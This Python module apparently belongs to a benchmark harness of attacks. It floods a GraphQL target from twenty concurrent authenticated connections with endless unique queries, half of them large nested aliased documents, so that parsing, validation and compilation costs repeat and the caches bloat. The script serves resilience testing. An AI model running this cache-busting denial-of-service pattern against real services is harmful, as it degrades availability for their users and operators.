"""Ten connections of an analyst and ten of a subscriber send valid documents, each of which is another one.

Half are large: many aliased relations, each of which becomes a subselect. Each document costs its parsing, its
validation and its compilation, and each would stay in the caches of documents, plans and prepared statements.
"""

import asyncio
import itertools

from bench.attacks.target import Target


def document(number: int) -> str:
    if number % 2:
        return f"{{ viewer {{ n{number}: role }} customers(first: 1) {{ nodes {{ n{number}: id }} }} }}"
    parts = (
        f"q{n}: customers(first: 1) {{ nodes {{ "
        + " ".join(f"n{number}_{m}: contracts(first: 1) {{ totalCount }}" for m in range(26))
        + " } }"
        for n in range(6)
    )
    return f"{{ {' '.join(parts)} }}"


async def attack(target: Target) -> None:
    numbers = itertools.count()

    async with target.client() as client:

        async def repeat(token: str) -> None:
            while True:
                await target.send(client, document(next(numbers)), token)

        tokens = [target.token("analyst"), target.token("subscriber")] * 10
        await asyncio.gather(*(repeat(token) for token in tokens))
